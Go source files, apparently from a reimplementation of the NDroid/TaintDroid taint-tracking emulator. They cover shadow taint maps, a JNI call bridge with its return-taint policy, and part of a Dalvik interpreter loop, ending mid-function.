func (w *WordTaint) Set(addr uint32, tag Tag) {
	k := addr >> 2
	if tag == Clear {
		if w.tags[k] != Clear {
			w.bump(-1)
		}
		delete(w.tags, k)
		return
	}
	if w.tags[k] == Clear {
		w.bump(1)
	}
	w.tags[k] = tag
}

// TaintedWords returns how many words currently carry taint — the
// word-granular analog of TaintedBytes.
func (w *WordTaint) TaintedWords() int { return len(w.tags) }
