package taint

// MemTaint is a byte-granular shadow-taint map over the 32-bit guest address
// space, mirroring NDroid's taint map ("The taint granularity of NDroid is
// byte", §V-E). It is paged so that sparse use stays cheap.
type MemTaint struct {
	pages map[uint32]*taintPage
	// count of currently tainted bytes, maintained incrementally so invariant
	// checks and tests can assert on it without a full scan.
	tainted int

	// lastPN/lastPg memoize the most recently resolved page (mirroring the
	// CPU's decode-page memo): the data path hits the same page repeatedly,
	// so most lookups skip the map. lastPg may be nil for a memoized miss;
	// the memo is reset whenever a page is created or deleted.
	lastPN uint32
	lastPg *taintPage

	// live, when attached, mirrors the tainted counter into the process-wide
	// liveness aggregate so the execution layers' zero-taint fast path can
	// flip edge-triggered on the first Set/SetRange.
	live *Liveness
}

const (
	pageShift = 12
	pageSize  = 1 << pageShift
	pageMask  = pageSize - 1
)

type taintPage struct {
	tags [pageSize]Tag
	used int // number of non-zero entries on this page
}

// NewMemTaint returns an empty shadow-taint map.
func NewMemTaint() *MemTaint {
	return &MemTaint{
		pages:  make(map[uint32]*taintPage),
		lastPN: ^uint32(0),
	}
}

// AttachLiveness mirrors the map's tainted-byte count into l's SrcMem
// source, contributing any taint already present.
func (m *MemTaint) AttachLiveness(l *Liveness) {
	m.live = l
	if m.tainted != 0 {
		l.Adjust(SrcMem, m.tainted)
	}
}

// bump moves the tainted-byte counter and propagates the delta to the
// attached liveness aggregate.
func (m *MemTaint) bump(delta int) {
	m.tainted += delta
	if m.live != nil {
		m.live.Adjust(SrcMem, delta)
	}
}

// pageAt resolves a page number through the one-entry memo. The memoized
// value may be nil (a remembered miss), which is as useful as a hit: clean
// scans over unmapped pages skip the map too.
func (m *MemTaint) pageAt(pn uint32) *taintPage {
	if pn == m.lastPN {
		return m.lastPg
	}
	p := m.pages[pn]
	m.lastPN, m.lastPg = pn, p
	return p
}

func (m *MemTaint) dropPage(pn uint32) {
	delete(m.pages, pn)
	if m.lastPN == pn {
		m.lastPg = nil
	}
}

// Get returns the taint of the byte at addr.
func (m *MemTaint) Get(addr uint32) Tag {
	p := m.pageAt(addr >> pageShift)
	if p == nil {
		return Clear
	}
	return p.tags[addr&pageMask]
}

// Set assigns tag to the byte at addr (overwriting, not ORing).
func (m *MemTaint) Set(addr uint32, tag Tag) {
	pn := addr >> pageShift
	p := m.pageAt(pn)
	if p == nil {
		if tag == Clear {
			return
		}
		p = &taintPage{}
		m.pages[pn] = p
		m.lastPN, m.lastPg = pn, p
	}
	old := p.tags[addr&pageMask]
	if old == tag {
		return
	}
	p.tags[addr&pageMask] = tag
	switch {
	case old == Clear && tag != Clear:
		p.used++
		m.bump(1)
	case old != Clear && tag == Clear:
		p.used--
		m.bump(-1)
		if p.used == 0 {
			m.dropPage(pn)
		}
	}
}

// Add ORs tag into the byte at addr.
func (m *MemTaint) Add(addr uint32, tag Tag) {
	if tag == Clear {
		return
	}
	m.Set(addr, m.Get(addr)|tag)
}

// SetRange assigns tag to n consecutive bytes starting at addr. Clearing
// ranges on pages that hold no taint is free.
func (m *MemTaint) SetRange(addr, n uint32, tag Tag) {
	if tag == Clear {
		for i := uint32(0); i < n; {
			pn := (addr + i) >> pageShift
			off := (addr + i) & pageMask
			chunk := pageSize - off
			if chunk > n-i {
				chunk = n - i
			}
			if p := m.pageAt(pn); p != nil {
				cleared := 0
				for j := uint32(0); j < chunk; j++ {
					if p.tags[off+j] != Clear {
						p.tags[off+j] = Clear
						p.used--
						cleared++
					}
				}
				if cleared != 0 {
					m.bump(-cleared)
				}
				if p.used == 0 {
					m.dropPage(pn)
				}
			}
			i += chunk
		}
		return
	}
	for i := uint32(0); i < n; i++ {
		m.Set(addr+i, tag)
	}
}

// AddRange ORs tag into n consecutive bytes starting at addr.
func (m *MemTaint) AddRange(addr, n uint32, tag Tag) {
	for i := uint32(0); i < n; i++ {
		m.Add(addr+i, tag)
	}
}

// GetRange returns the union of the taints of n consecutive bytes at addr.
// Pages with no taint are skipped wholesale, so scanning clean buffers (the
// common case at sinks) costs one map lookup per page.
func (m *MemTaint) GetRange(addr, n uint32) Tag {
	var t Tag
	for i := uint32(0); i < n; {
		pn := (addr + i) >> pageShift
		p := m.pageAt(pn)
		off := (addr + i) & pageMask
		chunk := pageSize - off
		if chunk > n-i {
			chunk = n - i
		}
		if p != nil {
			for j := uint32(0); j < chunk; j++ {
				t |= p.tags[off+j]
			}
		}
		i += chunk
	}
	return t
}

// Get32 returns the union taint of the 4 bytes of the word at addr, the
// common case for register-sized loads.
func (m *MemTaint) Get32(addr uint32) Tag { return m.GetRange(addr, 4) }

// Set32 assigns tag to the 4 bytes of the word at addr.
func (m *MemTaint) Set32(addr uint32, tag Tag) { m.SetRange(addr, 4, tag) }

// ClearRange removes taint from n consecutive bytes starting at addr.
func (m *MemTaint) ClearRange(addr, n uint32) { m.SetRange(addr, n, Clear) }

// Copy propagates the taints of n bytes at src to the n bytes at dst,
// byte-for-byte (the memcpy model of Listing 3).
func (m *MemTaint) Copy(dst, src, n uint32) {
	if dst == src || n == 0 {
		return
	}
	if dst < src || dst >= src+n {
		for i := uint32(0); i < n; i++ {
			m.Set(dst+i, m.Get(src+i))
		}
		return
	}
	// Overlapping with dst inside [src,src+n): copy backwards (memmove).
	for i := n; i > 0; i-- {
		m.Set(dst+i-1, m.Get(src+i-1))
	}
}

// TaintedBytes returns how many bytes currently carry taint.
func (m *MemTaint) TaintedBytes() int { return m.tainted }

// Reset drops all taint.
func (m *MemTaint) Reset() {
	m.pages = make(map[uint32]*taintPage)
	m.bump(-m.tainted)
	m.lastPN, m.lastPg = ^uint32(0), nil
}

// WordTaint is a coarser, word-granular shadow map used only by the
// granularity-ablation benchmark (DESIGN.md §4.4).
type WordTaint struct {
	tags map[uint32]Tag // keyed by addr>>2
	live *Liveness
}

// NewWordTaint returns an empty word-granular map.
func NewWordTaint() *WordTaint { return &WordTaint{tags: make(map[uint32]Tag)} }

// AttachLiveness mirrors the map's tainted-word count into l's SrcWord
// source.
func (w *WordTaint) AttachLiveness(l *Liveness) {
	w.live = l
	if n := len(w.tags); n != 0 {
		l.Adjust(SrcWord, n)
	}
}

func (w *WordTaint) bump(delta int) {
	if w.live != nil {
		w.live.Adjust(SrcWord, delta)
	}
}

// Get returns the taint of the word containing addr.
func (w *WordTaint) Get(addr uint32) Tag { return w.tags[addr>>2] }

// Add ORs tag into the word containing addr.
func (w *WordTaint) Add(addr uint32, tag Tag) {
	if tag == Clear {
		return
	}
	k := addr >> 2
	if w.tags[k] == Clear {
		w.bump(1)
	}
	w.tags[k] |= tag
}

// Set assigns tag to the word containing addr.
func (w *WordTaint) Set(addr uint32, tag Tag) {
	k := addr >> 2
	if tag == Clear {
		if w.tags[k] != Clear {
			w.bump(-1)
		}
		delete(w.tags, k)
		return
	}
	if w.tags[k] == Clear {
		w.bump(1)
	}
	w.tags[k] = tag
}

// TaintedWords returns how many words currently carry taint — the
// word-granular analog of TaintedBytes.
func (w *WordTaint) TaintedWords() int { return len(w.tags) }
