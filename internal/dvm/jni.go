package dvm

import (
	"math/bits"

	"repro/internal/arm"
	"repro/internal/dex"
	"repro/internal/fault"
	"repro/internal/kernel"
	"repro/internal/taint"
)

// thread returns the thread on whose behalf native code is running.
func (vm *VM) thread() *Thread {
	if vm.curThread != nil {
		return vm.curThread
	}
	return vm.MainThread
}

// savedCPU snapshots the register state around a nested native call. Buffers
// are pooled per pad depth (getSavedCPU), so the bridge allocates nothing.
type savedCPU struct {
	R        [16]uint32
	N        bool
	Z        bool
	C        bool
	V        bool
	Thumb    bool
	RegTaint [16]taint.Tag
}

func (s *savedCPU) capture(c *arm.CPU) {
	s.R = c.R
	s.N, s.Z, s.C, s.V = c.N, c.Z, c.C, c.V
	s.Thumb = c.Thumb
	s.RegTaint = c.RegTaint
}

func (s *savedCPU) restore(c *arm.CPU) {
	c.R = s.R
	c.N, c.Z, c.C, c.V = s.N, s.Z, s.C, s.V
	c.Thumb = s.Thumb
	c.RegTaint = s.RegTaint
}

// restoreMasked restores only the registers in mask (value and taint lanes).
// Flags and the Thumb bit are always restored: WriteRegs does not model them.
// Sound only when everything that ran is covered by the mask — the fused
// bridge falls back to a full restore when the code epoch moved mid-call.
func (s *savedCPU) restoreMasked(c *arm.CPU, mask uint32) {
	for m := mask; m != 0; m &= m - 1 {
		i := bits.TrailingZeros32(m)
		c.R[i] = s.R[i]
		c.RegTaint[i] = s.RegTaint[i]
	}
	c.N, c.Z, c.C, c.V = s.N, s.Z, s.C, s.V
	c.Thumb = s.Thumb
}

// getSavedCPU hands out the snapshot buffer for the current pad depth. Calls
// nest strictly (padDepth is incremented after the capture and decremented
// before the restore completes), so one buffer per depth suffices.
func (vm *VM) getSavedCPU() *savedCPU {
	for len(vm.savedCPUStack) <= vm.padDepth {
		vm.savedCPUStack = append(vm.savedCPUStack, &savedCPU{})
	}
	return vm.savedCPUStack[vm.padDepth]
}

// marshalPlan is the per-method pre-decoded shorty: one step byte per
// argument position plus the widths and return kind the bridge needs. Plans
// derive only from immutable method metadata, so they are memoized for the
// method's lifetime and shared by the fused and unfused paths.
type marshalPlan struct {
	steps   []byte // per shorty arg: 'L' object, 'W' wide pair, 'P' prim word
	nWords  int    // AAPCS words incl. env + receiver
	static  bool
	retKind byte
	retWide bool
}

func (vm *VM) planFor(m *dex.Method) *marshalPlan {
	if p, ok := vm.marshalPlans[m]; ok {
		return p
	}
	p := &marshalPlan{static: m.IsStatic(), retKind: m.Shorty[0], retWide: m.RetWide()}
	n := 2 // JNIEnv + receiver (this or class object)
	for i := 1; i < len(m.Shorty); i++ {
		switch m.Shorty[i] {
		case 'L':
			p.steps = append(p.steps, 'L')
			n++
		case 'J', 'D':
			p.steps = append(p.steps, 'W')
			n += 2
		default:
			p.steps = append(p.steps, 'P')
			n++
		}
	}
	p.nWords = n
	if vm.marshalPlans == nil {
		vm.marshalPlans = make(map[*dex.Method]*marshalPlan)
	}
	vm.marshalPlans[m] = p
	return p
}

// jniScratch is one pooled set of bridge argument arrays.
type jniScratch struct {
	cpuArgs   []uint32
	argTaints []taint.Tag
	argObjs   []*Object
}

func (vm *VM) getJNIScratch(n int) *jniScratch {
	var sc *jniScratch
	if l := len(vm.jniScratchPool); l > 0 {
		sc = vm.jniScratchPool[l-1]
		vm.jniScratchPool = vm.jniScratchPool[:l-1]
	} else {
		sc = &jniScratch{}
	}
	if cap(sc.cpuArgs) < n {
		sc.cpuArgs = make([]uint32, 0, n)
		sc.argTaints = make([]taint.Tag, 0, n)
		sc.argObjs = make([]*Object, 0, n)
	}
	sc.cpuArgs = sc.cpuArgs[:0]
	sc.argTaints = sc.argTaints[:0]
	sc.argObjs = sc.argObjs[:0]
	return sc
}

func (vm *VM) putJNIScratch(sc *jniScratch) {
	for i := range sc.argObjs {
		sc.argObjs[i] = nil // drop object pointers so the pool pins no heap
	}
	vm.jniScratchPool = append(vm.jniScratchPool, sc)
}

// marshalJNIArgs fills the scratch arrays with the AAPCS argument words for a
// JNI call: env, receiver ref, then the plan's steps over the Dalvik argument
// words. Objects become local indirect references — the exact AddLocalRef
// sequence is part of the bridge's observable behavior (ref numbering feeds
// guest memory), so fused and unfused paths share this one implementation.
// clsObj is the receiver class object for static methods (nil = look it up).
func (vm *VM) marshalJNIArgs(plan *marshalPlan, m *dex.Method, clsObj *Object, args []uint32, taints []taint.Tag, sc *jniScratch) ([]uint32, []taint.Tag, []*Object) {
	cpuArgs := append(sc.cpuArgs, kernel.JNIEnvBase)
	argTaints := append(sc.argTaints, 0)
	argObjs := append(sc.argObjs, nil)

	idx := 0
	if plan.static {
		if clsObj == nil {
			clsObj = vm.classObject(m.Class)
		}
		cpuArgs = append(cpuArgs, vm.AddLocalRef(clsObj))
		argTaints = append(argTaints, 0)
		argObjs = append(argObjs, clsObj)
	} else {
		thisObj := vm.objects[args[0]]
		cpuArgs = append(cpuArgs, vm.AddLocalRef(thisObj))
		argTaints = append(argTaints, taints[0])
		argObjs = append(argObjs, thisObj)
		idx = 1
	}
	for _, step := range plan.steps {
		switch step {
		case 'L':
			o := vm.objects[args[idx]]
			cpuArgs = append(cpuArgs, vm.AddLocalRef(o))
			argTaints = append(argTaints, taints[idx])
			argObjs = append(argObjs, o)
			idx++
		case 'W':
			cpuArgs = append(cpuArgs, args[idx], args[idx+1])
			argTaints = append(argTaints, taints[idx], taints[idx+1])
			argObjs = append(argObjs, nil, nil)
			idx += 2
		default:
			cpuArgs = append(cpuArgs, args[idx])
			argTaints = append(argTaints, taints[idx])
			argObjs = append(argObjs, nil)
			idx++
		}
	}
	return cpuArgs, argTaints, argObjs
}

// callNative runs guest code at addr with AAPCS args and returns R0, R1, and
// the shadow taints of R0/R1 at return time (read before state restoration so
// NDroid's JNI-entry After hook can observe them).
func (vm *VM) callNative(addr uint32, args []uint32) (r0, r1 uint32, sh0, sh1 taint.Tag, err error) {
	c := vm.CPU
	saved := vm.getSavedCPU()
	saved.capture(c)
	pad := kernel.ReturnPadBase + uint32(vm.padDepth)*16
	vm.padDepth++
	defer func() { vm.padDepth-- }()

	sp := c.R[arm.SP]
	if len(args) > 4 {
		sp -= uint32(4 * (len(args) - 4))
		for i := 4; i < len(args); i++ {
			vm.Mem.Write32(sp+uint32(4*(i-4)), args[i])
		}
	}
	c.R[arm.SP] = sp
	for i := 0; i < 4; i++ {
		if i < len(args) {
			c.R[i] = args[i]
		}
		c.RegTaint[i] = 0
	}
	c.R[arm.LR] = pad
	c.SetThumbPC(addr)
	budget := vm.NativeBudget
	if budget == 0 {
		budget = 64 << 20
	}
	err = c.RunUntil(pad, budget)
	r0, r1 = c.R[0], c.R[1]
	sh0, sh1 = c.RegTaint[0], c.RegTaint[1]
	saved.restore(c)
	return r0, r1, sh0, sh1, err
}

// jniRetDecode applies the bridge's return decoding: the raw R0/R1 pair
// becomes a Dalvik return value according to the return kind.
func (vm *VM) jniRetDecode(retKind byte, r0, r1 uint32) uint64 {
	switch retKind {
	case 'V':
		return 0
	case 'L':
		if o := vm.DecodeRef(r0); o != nil {
			return uint64(o.Addr)
		}
		return 0
	case 'J', 'D':
		return uint64(r0) | uint64(r1)<<32
	default:
		return uint64(r0)
	}
}

// callJNIMethod is the JNI call bridge (dvmCallJNIMethod): it marshals Java
// arguments into the AAPCS (objects become local indirect references), runs
// the native method on the CPU, and applies the JNI return-taint policy —
// TaintDroid's "return tainted iff any parameter tainted" unless an NDroid
// hook overrides it (§V-B "JNI Entry"). Hot crossings dispatch to a fused
// chain (fuse.go) in which the per-call bridge work is specialized away.
func (vm *VM) callJNIMethod(th *Thread, m *dex.Method, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object, error) {
	vm.JNICrossings++
	if vm.OnJNICall != nil {
		vm.OnJNICall(m)
	}
	if vm.FuseNative {
		if fc := vm.fuseLookup(m); fc != nil {
			return vm.callFused(fc, th, m, args, taints)
		}
	}
	if f := fault.Hit(SiteJNIBridge, m.NativeAddr); f != nil {
		f.Method = m.FullName()
		return 0, 0, nil, f
	}
	if m.NativeAddr == 0 {
		// Declared native but never bound (RegisterNatives/dlsym failed): on a
		// device this is the UnsatisfiedLinkError path; misusing it from the
		// bridge is a guest fault, not a crash.
		return 0, 0, nil, vm.faultf(fault.JNIMisuse, m, "native method has no bound implementation")
	}
	plan := vm.planFor(m)
	vm.pushLocalFrame()
	defer vm.popLocalFrame()

	sc := vm.getJNIScratch(plan.nWords)
	defer vm.putJNIScratch(sc)
	cpuArgs, argTaints, argObjs := vm.marshalJNIArgs(plan, m, nil, args, taints, sc)

	ctx := &CallCtx{
		Thread:    th,
		Method:    m,
		CPUArgs:   cpuArgs,
		ArgTaints: argTaints,
		ArgObjs:   argObjs,
	}

	var r0, r1 uint32
	var sh0, sh1 taint.Tag
	var runErr error
	vm.internalCall("dvmCallJNIMethod", vm.callsiteOf("dvmInterpret"), ctx, func() {
		r0, r1, sh0, sh1, runErr = vm.callNative(m.NativeAddr, cpuArgs)
		ctx.Ret = uint64(r0) | uint64(r1)<<32
		ctx.RetTaint = sh0
		if plan.retWide {
			ctx.RetTaint |= sh1
		}
	})
	if runErr != nil {
		return 0, 0, nil, vm.errorf("native method %s: %w", m.FullName(), runErr)
	}

	// Return-taint policy. TaintDroid: union of parameter taints when any is
	// tainted. NDroid hooks set RetOverride with the shadow-derived taint.
	var retTaint taint.Tag
	if ctx.RetOverride {
		retTaint = ctx.RetTaint
	} else {
		for _, t := range argTaints {
			retTaint |= t
		}
	}
	if !vm.TaintJava {
		retTaint = 0
	}
	// A tainted JNI return is taint entering the Java world.
	vm.NoteTaint(retTaint)

	ret := vm.jniRetDecode(plan.retKind, r0, r1)

	var thrown *Object
	if th.Exception != nil {
		thrown = th.Exception
		th.Exception = nil
	}
	return ret, retTaint, thrown, nil
}
