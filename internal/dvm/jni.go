package dvm

import (
	"repro/internal/arm"
	"repro/internal/dex"
	"repro/internal/fault"
	"repro/internal/kernel"
	"repro/internal/taint"
)

// thread returns the thread on whose behalf native code is running.
func (vm *VM) thread() *Thread {
	if vm.curThread != nil {
		return vm.curThread
	}
	return vm.MainThread
}

// savedCPU snapshots the register state around a nested native call.
type savedCPU struct {
	R        [16]uint32
	N        bool
	Z        bool
	C        bool
	V        bool
	Thumb    bool
	RegTaint [16]taint.Tag
}

func snapshotCPU(c *arm.CPU) savedCPU {
	return savedCPU{R: c.R, N: c.N, Z: c.Z, C: c.C, V: c.V, Thumb: c.Thumb, RegTaint: c.RegTaint}
}

func restoreCPU(c *arm.CPU, s savedCPU) {
	c.R = s.R
	c.N, c.Z, c.C, c.V = s.N, s.Z, s.C, s.V
	c.Thumb = s.Thumb
	c.RegTaint = s.RegTaint
}

// callNative runs guest code at addr with AAPCS args and returns R0, R1, and
// the shadow taints of R0/R1 at return time (read before state restoration so
// NDroid's JNI-entry After hook can observe them).
func (vm *VM) callNative(addr uint32, args []uint32) (r0, r1 uint32, sh0, sh1 taint.Tag, err error) {
	c := vm.CPU
	saved := snapshotCPU(c)
	pad := kernel.ReturnPadBase + uint32(vm.padDepth)*16
	vm.padDepth++
	defer func() { vm.padDepth-- }()

	sp := c.R[arm.SP]
	if len(args) > 4 {
		sp -= uint32(4 * (len(args) - 4))
		for i := 4; i < len(args); i++ {
			vm.Mem.Write32(sp+uint32(4*(i-4)), args[i])
		}
	}
	c.R[arm.SP] = sp
	for i := 0; i < 4; i++ {
		if i < len(args) {
			c.R[i] = args[i]
		}
		c.RegTaint[i] = 0
	}
	c.R[arm.LR] = pad
	c.SetThumbPC(addr)
	budget := vm.NativeBudget
	if budget == 0 {
		budget = 64 << 20
	}
	err = c.RunUntil(pad, budget)
	r0, r1 = c.R[0], c.R[1]
	sh0, sh1 = c.RegTaint[0], c.RegTaint[1]
	restoreCPU(c, saved)
	return r0, r1, sh0, sh1, err
}

// callJNIMethod is the JNI call bridge (dvmCallJNIMethod): it marshals Java
// arguments into the AAPCS (objects become local indirect references), runs
// the native method on the CPU, and applies the JNI return-taint policy —
// TaintDroid's "return tainted iff any parameter tainted" unless an NDroid
// hook overrides it (§V-B "JNI Entry").
func (vm *VM) callJNIMethod(th *Thread, m *dex.Method, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object, error) {
	if f := fault.Hit(SiteJNIBridge, m.NativeAddr); f != nil {
		f.Method = m.FullName()
		return 0, 0, nil, f
	}
	if m.NativeAddr == 0 {
		// Declared native but never bound (RegisterNatives/dlsym failed): on a
		// device this is the UnsatisfiedLinkError path; misusing it from the
		// bridge is a guest fault, not a crash.
		return 0, 0, nil, vm.faultf(fault.JNIMisuse, m, "native method has no bound implementation")
	}
	vm.pushLocalFrame()
	defer vm.popLocalFrame()

	cpuArgs := []uint32{kernel.JNIEnvBase}
	argTaints := []taint.Tag{0}
	argObjs := []*Object{nil}

	idx := 0
	if m.IsStatic() {
		clsObj := vm.classObject(m.Class)
		cpuArgs = append(cpuArgs, vm.AddLocalRef(clsObj))
		argTaints = append(argTaints, 0)
		argObjs = append(argObjs, clsObj)
	} else {
		thisObj := vm.objects[args[0]]
		cpuArgs = append(cpuArgs, vm.AddLocalRef(thisObj))
		argTaints = append(argTaints, taints[0])
		argObjs = append(argObjs, thisObj)
		idx = 1
	}
	for i := 1; i < len(m.Shorty); i++ {
		switch m.Shorty[i] {
		case 'L':
			o := vm.objects[args[idx]]
			cpuArgs = append(cpuArgs, vm.AddLocalRef(o))
			argTaints = append(argTaints, taints[idx])
			argObjs = append(argObjs, o)
			idx++
		case 'J', 'D':
			cpuArgs = append(cpuArgs, args[idx], args[idx+1])
			argTaints = append(argTaints, taints[idx], taints[idx+1])
			argObjs = append(argObjs, nil, nil)
			idx += 2
		default:
			cpuArgs = append(cpuArgs, args[idx])
			argTaints = append(argTaints, taints[idx])
			argObjs = append(argObjs, nil)
			idx++
		}
	}

	ctx := &CallCtx{
		Thread:    th,
		Method:    m,
		CPUArgs:   cpuArgs,
		ArgTaints: argTaints,
		ArgObjs:   argObjs,
	}

	var r0, r1 uint32
	var sh0, sh1 taint.Tag
	var runErr error
	vm.internalCall("dvmCallJNIMethod", vm.callsiteOf("dvmInterpret"), ctx, func() {
		r0, r1, sh0, sh1, runErr = vm.callNative(m.NativeAddr, cpuArgs)
		ctx.Ret = uint64(r0) | uint64(r1)<<32
		ctx.RetTaint = sh0
		if m.RetWide() {
			ctx.RetTaint |= sh1
		}
	})
	if runErr != nil {
		return 0, 0, nil, vm.errorf("native method %s: %w", m.FullName(), runErr)
	}

	// Return-taint policy. TaintDroid: union of parameter taints when any is
	// tainted. NDroid hooks set RetOverride with the shadow-derived taint.
	var retTaint taint.Tag
	if ctx.RetOverride {
		retTaint = ctx.RetTaint
	} else {
		for _, t := range argTaints {
			retTaint |= t
		}
	}
	if !vm.TaintJava {
		retTaint = 0
	}
	// A tainted JNI return is taint entering the Java world.
	vm.NoteTaint(retTaint)

	var ret uint64
	switch m.Shorty[0] {
	case 'V':
	case 'L':
		if o := vm.DecodeRef(r0); o != nil {
			ret = uint64(o.Addr)
		}
	case 'J', 'D':
		ret = uint64(r0) | uint64(r1)<<32
	default:
		ret = uint64(r0)
	}

	var thrown *Object
	if th.Exception != nil {
		thrown = th.Exception
		th.Exception = nil
	}
	return ret, retTaint, thrown, nil
}
