package dvm

import (
	"encoding/binary"
	"fmt"
	"math"

	"repro/internal/dex"
	"repro/internal/fault"
	"repro/internal/taint"
)

// Invoke runs a method on thread th. args are register words (wide arguments
// as two consecutive words, object arguments as direct pointers); taints are
// aligned with args. It returns the 64-bit return value, its taint, a thrown
// exception object if the method completed abruptly, and an execution error
// for genuine emulator faults.
func (vm *VM) Invoke(th *Thread, m *dex.Method, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object, error) {
	if f := fault.Hit(SiteInvoke, 0); f != nil {
		f.Method = m.FullName()
		return 0, 0, nil, f
	}
	prev := vm.curThread
	vm.curThread = th
	defer func() { vm.curThread = prev }()

	// Taint handed in from outside the interpreter (entry-point taints, hook
	// writes) must flip the latch before any frame slot holds a nonzero tag.
	if !vm.taintSeen {
		for _, t := range taints {
			if t != 0 {
				vm.NoteTaint(t)
				break
			}
		}
	}

	if m.Builtin != nil {
		b, ok := m.Builtin.(Builtin)
		if !ok {
			return 0, 0, nil, vm.faultf(fault.InternalError, m, "invalid builtin binding")
		}
		ret, rt, thrown := b(vm, th, args, taints)
		if !vm.TaintJava {
			rt = 0
		}
		vm.NoteTaint(rt)
		return ret, rt, thrown, nil
	}
	if m.IsNative() {
		return vm.callJNIMethod(th, m, args, taints)
	}
	if len(args) != m.InsSize() {
		return 0, 0, nil, vm.faultf(fault.MalformedDex, m, "expects %d arg words, got %d", m.InsSize(), len(args))
	}
	f, ferr := th.pushFrame(m, args, taints)
	if ferr != nil {
		return 0, 0, nil, ferr
	}
	defer th.popFrame()
	if vm.InterpretHookAll {
		ctx := &CallCtx{Thread: th, JavaMethod: m, FrameAddr: f.FP, JavaTaints: taints}
		var ret uint64
		var rt taint.Tag
		var thrown *Object
		var err error
		vm.internalCall("dvmInterpret", vm.callsiteOf("dvmCallMethod"), ctx, func() {
			ret, rt, thrown, err = vm.run(th, f)
		})
		return ret, rt, thrown, err
	}
	return vm.run(th, f)
}

// InvokeByName resolves class.method and invokes it (entry-point helper).
// As the top of the thread's call stack it is also the containment boundary:
// a panic escaping any layer below — including ones deliberately raised from
// contexts without an error return (heap exhaustion, hook invariants) — is
// converted to a typed fault instead of crashing batch callers. The deferred
// frame/local-ref/pad cleanups of the unwound calls all run before the
// recover, so the VM is left structurally consistent (faulting runs are
// discarded by the analyzer regardless).
func (vm *VM) InvokeByName(class, method string, args []uint32, taints []taint.Tag) (ret uint64, rt taint.Tag, thrown *Object, err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fault.FromPanic("dvm", r)
		}
	}()
	c, ok := vm.classes[class]
	if !ok {
		return 0, 0, nil, vm.faultf(fault.MalformedDex, nil, "unknown class %s", class)
	}
	m, ok := c.Method(method)
	if !ok {
		return 0, 0, nil, vm.faultf(fault.MalformedDex, nil, "unknown method %s.%s", class, method)
	}
	if taints == nil {
		taints = make([]taint.Tag, len(args))
	}
	return vm.Invoke(vm.MainThread, m, args, taints)
}

// run executes the method of frame f until it returns or throws: through the
// translated form when eligible — no per-instruction observer installed and
// translation not ablated away — and the classic interpreter otherwise.
// DroidScope-style analyses install a step function and therefore always pay
// the per-instruction path, preserving the Fig. 10 cost model.
func (vm *VM) run(th *Thread, f *Frame) (uint64, taint.Tag, *Object, error) {
	// The translated variants cover two of the interpreter's three taint
	// behaviours: skip (gate clean) and full propagation. The third —
	// TaintJava off while nonzero tags exist (externally injected arg
	// taints flip the latch even without TaintJava) — clears tags on write
	// instead of propagating, so those rare frames take the interpreter.
	if vm.javaStepFn == nil && !vm.NoJavaTranslate && (vm.TaintJava || !vm.taintSeen) {
		return vm.runTranslated(th, f, vm.compiledFor(f.Method))
	}
	return vm.interpret(th, f, 0)
}

// interpret runs frame f from startPC through the per-instruction switch
// loop. It is the translation engine's reference semantics and its deopt
// target: a mid-method epoch bump (hook or step-function installation under
// a running translated frame) resumes here at the next instruction.
func (vm *VM) interpret(th *Thread, f *Frame, startPC int) (uint64, taint.Tag, *Object, error) {
	m := f.Method
	pc := startPC
	for {
		if pc < 0 || pc >= len(m.Insns) {
			return 0, 0, nil, vm.faultf(fault.MalformedDex, m, "pc %d out of range", pc)
		}
		// Both recomputed per instruction: an invoke below can run a source
		// method that flips the latch mid-frame. While clean, every taint
		// slot is provably zero, so tag clears (not just merges) are skipped.
		clean := vm.GateJava && !vm.taintSeen
		tainting := vm.TaintJava && !clean
		insn := &m.Insns[pc]
		vm.JavaInsnCount++
		m.InsnCount++
		if vm.JavaBudget != 0 && vm.JavaInsnCount > vm.JavaBudget {
			return 0, 0, nil, vm.javaBudgetFault(m)
		}
		if vm.javaStepFn != nil {
			vm.javaStepFn(th, m, pc, insn)
		}

		var thrown *Object

		switch insn.Op {
		case dex.Nop:

		case dex.Const:
			th.setReg(f, insn.A, uint32(insn.Lit))
			if !clean {
				th.setRegTaint(f, insn.A, 0)
			}
		case dex.ConstWide:
			th.setRegWide(f, insn.A, uint64(insn.Lit))
			if !clean {
				th.setRegTaint(f, insn.A, 0)
				th.setRegTaint(f, insn.A+1, 0)
			}
		case dex.ConstString:
			o := vm.internString(insn)
			th.setReg(f, insn.A, o.Addr)
			if !clean {
				th.setRegTaint(f, insn.A, 0)
			}

		case dex.Move:
			th.setReg(f, insn.A, th.reg(f, insn.B))
			if tainting {
				th.setRegTaint(f, insn.A, th.regTaint(f, insn.B))
			}
		case dex.MoveWide:
			th.setRegWide(f, insn.A, th.regWide(f, insn.B))
			if tainting {
				th.setRegTaint(f, insn.A, th.regTaint(f, insn.B))
				th.setRegTaint(f, insn.A+1, th.regTaint(f, insn.B+1))
			}
		case dex.MoveResult:
			th.setReg(f, insn.A, uint32(th.RetVal))
			if tainting {
				th.setRegTaint(f, insn.A, th.RetTaint)
			}
		case dex.MoveResultWide:
			th.setRegWide(f, insn.A, th.RetVal)
			if tainting {
				th.setRegTaint(f, insn.A, th.RetTaint)
				th.setRegTaint(f, insn.A+1, th.RetTaint)
			}
		case dex.MoveException:
			if th.Exception == nil {
				return 0, 0, nil, vm.faultf(fault.MalformedDex, m, "move-exception with no pending exception at pc %d", pc)
			}
			th.setReg(f, insn.A, th.Exception.Addr)
			if tainting {
				th.setRegTaint(f, insn.A, th.Exception.Taint)
			}
			th.Exception = nil

		case dex.ReturnVoid:
			return 0, 0, nil, nil
		case dex.Return:
			return uint64(th.reg(f, insn.A)), th.regTaint(f, insn.A), nil, nil
		case dex.ReturnWide:
			t := th.regTaint(f, insn.A) | th.regTaint(f, insn.A+1)
			return th.regWide(f, insn.A), t, nil, nil

		case dex.NewInstance:
			c, ok := vm.classes[insn.ClassName]
			if !ok {
				return 0, 0, nil, vm.faultf(fault.MalformedDex, m, "unknown class %s", insn.ClassName)
			}
			o := vm.NewInstance(c)
			th.setReg(f, insn.A, o.Addr)
			if !clean {
				th.setRegTaint(f, insn.A, 0)
			}
		case dex.NewArray:
			n := int(int32(th.reg(f, insn.B)))
			if n < 0 {
				thrown = vm.makeThrowable(th, "Ljava/lang/RuntimeException;", "negative array size")
				break
			}
			o := vm.NewArray(insn.Str[0], n)
			th.setReg(f, insn.A, o.Addr)
			if !clean {
